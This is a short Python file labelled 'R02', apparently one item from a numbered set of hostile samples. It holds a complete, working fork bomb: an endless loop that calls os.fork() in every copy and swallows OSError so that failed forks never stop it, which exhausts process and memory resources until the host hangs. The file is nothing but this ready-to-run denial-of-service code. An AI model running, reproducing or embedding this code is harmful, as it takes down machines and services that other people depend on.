# R02: a loop that forks and goes on forking in every copy, and takes no refusal for an answer.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
